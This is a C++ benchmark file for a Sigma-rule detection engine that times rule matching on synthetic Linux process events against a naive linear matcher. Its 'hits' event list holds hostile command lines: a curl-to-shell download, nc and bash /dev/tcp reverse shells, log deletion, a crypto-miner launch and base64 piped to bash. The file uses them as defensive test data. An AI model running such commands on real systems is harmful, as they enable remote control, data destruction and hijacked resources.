// Budget: 1,000,000 normalised process events a second on one core with the whole Linux Sigma set and our
// pack; with ten times the rules at least 80 % of that (design section 7). Three loads: `mixed` repeats lines
// as devices do; `distinct` never does, so that no memory of earlier lines helps; of `hits` each makes rules
// fire. The peer is what the engine replaces: each rule's patterns sought one after another.
// FIELDWATCH_STOCK_RULES names a folder of unpacked Sigma rules; without it our pack runs alone.
#include <benchmark/benchmark.h>
#include <malloc.h>
#include <re2/re2.h>
#include <yaml-cpp/yaml.h>

#include <cstdlib>
#include <map>

#include "base/random.hpp"
#include "detect/rules/fields.hpp"
#include "detect/rules/pack.hpp"
#include "detect/rules/sigma.hpp"

namespace fieldwatch::detect {
namespace {

/// The stock rules first, then ours.
RulePack real_rules() {
    RulePack out;
    if (const char* stock = std::getenv("FIELDWATCH_STOCK_RULES"); stock != nullptr)
        out = *load_rule_pack(posix_file_system(), stock);
    const auto own = *load_rule_pack(posix_file_system(), FIELDWATCH_SOURCE_DIR "/rules");
    out.rules.insert(out.rules.end(), own.rules.begin(), own.rules.end());
    out.words = own.words;
    return out;
}

/// The expression with the mark in each of its words of three letters or more.
std::string changed_expression(std::string_view text, const std::string& mark) {
    const auto letter = [](char c) { return (c >= 'a' && c <= 'z') || (c >= 'A' && c <= 'Z'); };
    std::string out;
    for (std::size_t i = 0; i < text.size();) {
        auto end = i + 1;
        if (text[i] == '\\') {
            ++end;
        } else if (text[i] == '[') {
            end = std::min(text.find(']', i + 2), text.size());
        } else {
            while (end < text.size() && letter(text[i]) && letter(text[end]))
                ++end;
        }
        const auto part = text.substr(i, end - i);
        const bool word = letter(text[i]) && part.size() > 2;
        out.append(part.substr(0, 2)).append(word ? mark : "").append(part.size() > 2 ? part.substr(2) : "");
        i = end;
    }
    return out;
}

/// Makes each text and expression under a search another one, as long and as rare as before.
void change(YAML::Node node, std::string_view key, const std::string& mark) {
    if (node.IsMap()) {
        for (auto entry : node)
            change(entry.second, entry.first.as<std::string>(), mark);
    } else if (node.IsSequence()) {
        for (auto one : node)
            change(one, key, mark);
    } else if (node.IsScalar()) {
        // Numbers, networks and names of a fixed set have no other text that could be meant.
        for (const auto other :
             {"|cidr", "|exists", "|lt", "|gt", "|hour", "|expand", "|fieldref", ".facts", ".interpreter"}) {
            if (key.find(other) != std::string_view::npos) return;
        }
        auto text = node.as<std::string>();
        if (key.find("|re") != std::string_view::npos) {
            node = changed_expression(text, mark);
            return;
        }
        auto middle = text.size() / 2;
        while (middle > 0 && text[middle - 1] == '\\')
            --middle;
        node = text.insert(middle, mark);
    }
}

/// A rule like this one that looks for other texts: a copy that shared predicates would cost nothing.
std::optional<SourceFile> copy_of(const SourceFile& file, std::size_t number) {
    const auto mark = "q" + std::to_string(number);
    std::string text;
    for (auto document : YAML::LoadAll(file.text)) {
        if (!document["detection"] || !document["logsource"] || document["filter"]) continue;
        document["id"] = document["id"].as<std::string>() + mark;
        document.remove("name");
        for (auto entry : document["detection"]) {
            const auto name = entry.first.as<std::string>();
            if (name != "condition" && name != "timeframe") change(entry.second, name, mark);
        }
        YAML::Emitter emitter;
        emitter.SetStringFormat(YAML::DoubleQuoted);
        emitter << document;
        text += "---\n" + std::string(emitter.c_str()) + "\n";
    }
    if (text.empty()) return std::nullopt;
    return SourceFile{mark + file.name, text};
}

/// So many files of rules: the real ones, then copies of them. -n: all the real ones, n times.
constexpr std::int64_t kWhole = -1, kTenfold = -10;
RulePack rules_of(std::int64_t count) {
    const auto real = real_rules();
    const auto wanted =
        count < 0 ? real.rules.size() * static_cast<std::size_t>(-count) : static_cast<std::size_t>(count);
    RulePack out{.rules = {}, .words = real.words};
    for (std::size_t copy = 0; out.rules.size() < wanted && !real.rules.empty(); ++copy) {
        for (const auto& file : real.rules) {
            if (out.rules.size() == wanted) break;
            const auto more = copy == 0 ? std::optional(file) : copy_of(file, copy);
            if (more) out.rules.push_back(*more);
        }
    }
    return out;
}

enum Load : std::int64_t { Mixed, Distinct, Hits };

struct Events {
    std::vector<std::string> texts;
    std::vector<model::Event> events;
};

Events events_of(Load load) {
    static constexpr std::string_view kLines[] = {"/bin/sh -c ip -a -o link",
                                                  "ip -4 -a -o address",
                                                  "/usr/sbin/cron -f",
                                                  "sleep 30",
                                                  "cat /proc/meminfo",
                                                  "/usr/bin/python3 /opt/gateway/main.py --port 8883",
                                                  "ps aux",
                                                  "grep -q running /run/state/NUM",
                                                  "sh -c 'df -h / | tail -1'",
                                                  "date +%s",
                                                  "systemctl is-active gateway.service",
                                                  "mosquitto_pub -t a/NUM -m 1",
                                                  "/usr/lib/apt/apt.systemd.daily",
                                                  "iptables -L -n",
                                                  "logger -t app value NUM",
                                                  "curl -s http://10.0.0.1/health"};
    static constexpr std::string_view kAttacks[] = {"sh -c 'curl -s http://203.0.113.9/NUM.sh | sh'",
                                                    "chmod 777 /tmp/.x/NUM",
                                                    "nc -e /bin/sh 203.0.113.9 NUM",
                                                    "rm -rf /var/log/NUM",
                                                    "iptables -F; ./xmrig -o pool.minexmr.com:3333 -u NUM",
                                                    "base64 -d /tmp/NUM | bash",
                                                    "bash -i >& /dev/tcp/203.0.113.9/NUM 0>&1"};
    static constexpr std::string_view kImages[] = {
        "/bin/sh",  "/bin/ip",       "/usr/sbin/cron", "/usr/bin/python3.9",
        "/bin/cat", "/usr/bin/curl", "/bin/grep"};
    constexpr std::size_t kCount = 100'000;
    const auto lines = load == Hits ? std::span<const std::string_view>(kAttacks) : std::span(kLines);
    SeededRandom random(7);
    Events out;
    out.texts.reserve(kCount);
    for (std::size_t i = 0; i < kCount; ++i) {
        std::string line(lines[random.next() % lines.size()]);
        const auto number = load == Mixed ? random.next() % 200 : i;
        if (const auto place = line.find("NUM"); place != std::string::npos)
            line.replace(place, 3, std::to_string(number));
        if (load == Distinct) line += " --sequence " + std::to_string(i);
        out.texts.push_back(std::move(line));
    }
    for (std::size_t i = 0; i < kCount; ++i) {
        model::Event event;
        event.kind = model::EventKind::ProcessCreate;
        event.device = "d";
        model::Item item;
        item.payload = model::ProcessCreate{.executable = kImages[random.next() % std::size(kImages)],
                                            .command_line = out.texts[i],
                                            .user_id = "0",
                                            .user_name = "root",
                                            .parent_executable = kImages[random.next() % std::size(kImages)],
                                            .parent_command_line = "/bin/sh -c run"};
        event.items.push_back(item);
        out.events.push_back(std::move(event));
    }
    return out;
}

/// A rule set, made once for all its loads.
struct Compiled {
    RuleSetPtr rules;
    double bytes = 0, seconds = 0;
};
const Compiled& compiled(std::int64_t count) {
    static std::map<std::int64_t, Compiled> known;
    const auto [entry, added] = known.try_emplace(count);
    if (added) {
        const auto pack = rules_of(count);
        const auto before = mallinfo2().uordblks;
        const auto start = std::chrono::steady_clock::now();
        auto done = RuleSet::compile(pack.rules, pack.words);
        const std::chrono::duration<double> took = std::chrono::steady_clock::now() - start;
        entry->second = {done.rules, static_cast<double>(mallinfo2().uordblks - before), took.count()};
    }
    return entry->second;
}

/// Arguments: how many rules, Load.
void match(benchmark::State& state) {
    const auto& [rules, bytes, seconds] = compiled(state.range(0));
    const auto load = events_of(static_cast<Load>(state.range(1)));
    Matcher matcher(rules);
    std::vector<RuleHit> hits;
    std::size_t at = 0;
    std::size_t fired = 0;
    for (auto _ : state) {
        const auto& event = load.events[at];
        at = at + 1 == load.events.size() ? 0 : at + 1;
        hits.clear();
        matcher.match(event, event.items[0], hits);
        fired += hits.size();
    }
    state.SetItemsProcessed(state.iterations());
    state.counters["rules"] = static_cast<double>(rules->rules().size());
    state.counters["hits"] = static_cast<double>(fired) / static_cast<double>(state.iterations());
    state.counters["bytes"] = bytes;
    state.counters["compile_s"] = seconds;
}
BENCHMARK(match)
    ->ArgNames({"rules", "load"})
    ->ArgsProduct({{0, 248, 500, 5'000, kWhole, kTenfold}, {Mixed, Distinct, Hits}});

/// What the engine replaces: rule after rule, pattern after pattern. Fields that come from a parsed command
/// line are none to it, so that it does less.
class LinearMatcher {
  public:
    explicit LinearMatcher(const RulePack& pack) {
        std::vector<RuleError> errors;
        documents_ = parse_sigma_files(pack.rules, pack.words, errors);
    }

    std::size_t match(const model::Event& event, const model::Item& item) {
        values_.clear();
        numbers_.clear();
        event_fields(event, item, {}, numbers_, values_);
        const auto source = log_source_of(event, item);
        std::size_t fired = 0;
        for (const auto& rule : documents_.rules) {
            if (!rule.meta.category.empty() && rule.meta.category != source.category) continue;
            if (!rule.meta.product.empty() && rule.meta.product != source.product) continue;
            if (!rule.meta.service.empty()) continue;
            fired += holds(rule, rule.condition) ? 1 : 0;
        }
        return fired;
    }

  private:
    bool holds(const SigmaRule& rule, const Expression& expression) {
        std::size_t count = 0;
        for (const auto& child : expression.children)
            count += holds(rule, child) ? 1 : 0;
        switch (expression.kind) {
            case Expression::Kind::Leaf:
                return holds(rule.predicates[expression.predicate]);
            case Expression::Kind::Not:
                return count == 0;
            case Expression::Kind::And:
                return count == expression.children.size();
            case Expression::Kind::Or:
                return count > 0;
            case Expression::Kind::AtLeast:
                return count >= expression.least;
        }
        return false;
    }
    bool holds(const Predicate& predicate) {
        for (const auto& [name, value] : values_) {
            if (name != predicate.field) continue;
            for (const auto& pattern : predicate.any_of) {
                if (holds(pattern, value)) return true;
            }
        }
        return false;
    }
    bool holds(const Pattern& pattern, std::string_view value) {
        switch (pattern.kind) {
            case PatternKind::Exact:
                return compare_texts(value, pattern.text, PatternKind::SameAs, pattern.cased);
            case PatternKind::Literal:
                return compare_texts(value, pattern.text,
                                     pattern.edges.at_start ? PatternKind::StartsWith
                                     : pattern.edges.at_end ? PatternKind::EndsWith
                                                            : PatternKind::Contains,
                                     pattern.cased);
            case PatternKind::Regex: {
                auto& regex = regexes_[&pattern];
                if (regex == nullptr) {
                    re2::RE2::Options options(re2::RE2::Latin1);
                    options.set_case_sensitive(pattern.cased);
                    options.set_log_errors(false);
                    regex = std::make_unique<re2::RE2>(pattern.text, options);
                }
                return regex->ok() && re2::RE2::PartialMatch({value.data(), value.size()}, *regex);
            }
            default:
                return pattern.kind == PatternKind::Present || pattern.kind == PatternKind::Exists;
        }
    }

    SigmaDocuments documents_;
    std::map<const Pattern*, std::unique_ptr<re2::RE2>> regexes_;
    std::vector<FieldValue> values_;
    NumberText numbers_;
};

/// Arguments: how many rules, Load.
void linear(benchmark::State& state) {
    LinearMatcher matcher(rules_of(state.range(0)));
    const auto load = events_of(static_cast<Load>(state.range(1)));
    std::size_t at = 0;
    for (auto _ : state) {
        const auto& event = load.events[at];
        at = at + 1 == load.events.size() ? 0 : at + 1;
        benchmark::DoNotOptimize(matcher.match(event, event.items[0]));
    }
    state.SetItemsProcessed(state.iterations());
}
BENCHMARK(linear)->ArgNames({"rules", "load"})->ArgsProduct({{248, kWhole, kTenfold}, {Mixed}});

}  // namespace
}  // namespace fieldwatch::detect
